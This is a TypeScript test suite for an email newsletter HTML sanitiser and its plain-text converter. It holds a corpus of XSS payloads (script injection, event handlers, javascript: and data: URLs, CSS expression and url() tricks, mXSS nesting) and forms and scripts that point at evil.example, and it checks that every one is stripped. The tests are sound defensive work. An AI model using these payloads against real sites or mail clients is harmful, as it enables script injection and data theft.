/** The sanitiser and the text part in workerd: a hostile corpus, what must stay, and random mixtures of both. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plainTextOf, sanitizeHtml } from '@worker/services/newsletters/templates/sanitize';

const SITE = 'https://outset.example';

const TAG =
  /^<\/?(?:a|abbr|b|blockquote|br|caption|code|col|colgroup|dd|del|div|dl|dt|em|h[1-6]|hr|i|img|ins|li|ol|p|pre|q|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)(?: [a-z-]+(?:="[^"<>]*")?)*(?: \/)?>/;
const ATTRIBUTE =
  /^(?:style|class|align|valign|bgcolor|dir|lang|title|role|width|height|href|src|alt|cellpadding|cellspacing|border|colspan|rowspan|scope|start|type)$/;

/** Read strictly: our own tags and attributes, and nothing in them that runs, loads, sends or covers anything. */
function expectHarmless(html: string): void {
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
    const [tag] = TAG.exec(html.slice(at)) ?? [];
    expect(tag, html.slice(at, at + 80)).toBeDefined();
    for (const [, name = '', value = ''] of (tag ?? '').matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      expect(name).toMatch(ATTRIBUTE);
      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|\/(?![/\\])|\{\{)/);
      if (name === 'src') expect(value).toMatch(/^(?:https:\/\/|\/(?![/\\])|\{\{)/);
      if (name === 'style') expect(value).not.toMatch(/url|expression|import|position|behavior|var\(|[@\\<>{}]/i);
    }
  }
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/a.png" onload="alert(1)" srcset="http://evil.example/x 2x">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example" srcdoc="<script>1</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:1">Go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://user:secret@evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://tracker.example/p.gif">',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="color:var(--x);background:image-set(\'a\' 1x)">x</div>',
  '<style>@import "https://evil.example";*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><object data="x"></object><embed src="x">',
  '<!--[if mso]><script>1</script><![endif]--><!-- {{x}} --><![CDATA[<script>1</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>1</script></template><textarea></textarea><script>1</script>',
  '<title><img src=x onerror=1></title><xmp><script>1</script></xmp><plaintext><script>1</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<a href="https://a.example" onclick=alert(1) style="behavior:url(x)" id=x target=_top>x</a>',
  '<table background="https://evil.example/x.png"><tr><td>x',
  '<p title="a<b>&quot; onmouseover=&quot;alert(1)">x</p>',
  '<a href="{{registrationLink}}">x</a><a href="{{x}}javascript:1">x</a>',
];

describe('the sanitiser of mails', () => {
  it.each(HOSTILE)('takes out what is no mail: %s', (html) => {
    for (const options of [{}, { siteUrl: SITE }, { keepsPlaceholders: true }, { siteUrl: SITE, isDark: true }]) {
      const safe = sanitizeHtml(`<p>Before</p>${html}`, options);
      expectHarmless(safe);
      expect(safe).toContain('<p>Before</p>');
      expect(sanitizeHtml(safe, options)).toBe(safe);
    }
  });

  it('keeps what mails are made of, absolute and closed', () => {
    const html =
      '<table role="presentation" width="100%" cellpadding="0" style="max-width:600px;background-color:#fffefb"><tr><td class="card evil" colspan="2" style="padding:8px 4px;color:rgb(1, 2, 3)"><h1 align="center">A &amp; B</h1><a class="button" href="/portal?a=1&amp;b=2">Go</a><a href="mailto:a@b.example">M</a><img src="/files/x/a.png" alt="A" width="40"><ul><li>One';
    expect(sanitizeHtml(html, { siteUrl: SITE })).toBe(
      '<table role="presentation" width="100%" cellpadding="0" style="max-width:600px;background-color:#fffefb"><tr><td class="card" colspan="2" style="padding:8px 4px;color:rgb(1, 2, 3)"><h1 align="center">A &amp; B</h1><a class="button" href="https://outset.example/portal?a=1&amp;b=2">Go</a><a href="mailto:a@b.example">M</a><img src="https://outset.example/files/x/a.png" alt="A" width="40" /><ul><li>One</li></ul></td></tr></table>',
    );
  });

  it('keeps a link that is a placeholder in a template, and none that no one filled in a mail', () => {
    const html = '<a href="{{ registrationLink }}">Register</a>';
    expect(sanitizeHtml(html, { keepsPlaceholders: true })).toBe(html);
    expect(sanitizeHtml(html)).toBe('<a>Register</a>');
  });

  it('gives links and pictures without a scheme https', () => {
    expect(
      sanitizeHtml(
        '<a href=" www.example.com/register ">A</a><a href="//example.com">B</a><img src="example.com/a.png">',
      ),
    ).toBe(
      '<a href="https://www.example.com/register">A</a><a href="https://example.com">B</a><img src="https://example.com/a.png" />',
    );
  });

  it('closes nothing of the frame around it', () => {
    expect(sanitizeHtml('a</td></tr></table></body></html><b>b')).toBe('a<b>b</b>');
    expect(sanitizeHtml('<body style="color:#111111" onload=x><center>Hi</center></body>')).toBe(
      '<div style="color:#111111"><div style="text-align:center">Hi</div></div>',
    );
  });

  it('holds for any mixture, twice as once, within a second for what is largest', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string({
        unit: fc.constantFrom('<', '>', '"', "'", '=', '/', ' ', '&', ';', 'a', 'p', 'on', 'x:', '{{', '}}'),
      }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const safe = sanitizeHtml(pieces.join(''), { siteUrl: SITE });
        expectHarmless(safe);
        expect(sanitizeHtml(safe, { siteUrl: SITE })).toBe(safe);
      }),
    );
    const deep = sanitizeHtml('<div>'.repeat(50_000));
    expect(deep.length).toBeLessThan(2000);
    expect(plainTextOf(sanitizeHtml('<blockquote>'.repeat(5000) + 'x'))).toContain('x');
  });

  it('says a dark scheme by styles', () => {
    expect(sanitizeHtml('<p class="ink" style="color:#1d212b">x</p>', { isDark: true })).toBe(
      '<p class="ink" style="color:#1d212b;color:#e6e8ee">x</p>',
    );
  });
});

describe('the text part', () => {
  it('has links with their addresses, lists, headings and wrapped lines', () => {
    const text = plainTextOf(
      `<h1>News of the month</h1><p>${'word '.repeat(30)}</p><ul><li>One</li><li><a href="https://a.example/x">Two</a></li></ul><table><tr><td>When</td><td>Monday</td></tr></table><p><a href="https://a.example">https://a.example</a><img src="https://a.example/a.png" alt="A"></p>`,
    );
    expect(text).toMatch(
      /^News of the month\n\n(?:word )+word\n(?:word )+word\n\n- One\n- Two \(https:\/\/a\.example\/x\)\n/,
    );
    expect(text).toMatch(/When\n+Monday/);
    expect(text.endsWith('\nhttps://a.example')).toBe(true);
    expect(Math.max(...text.split('\n').map(({ length }) => length))).toBeLessThanOrEqual(76);
  });
});
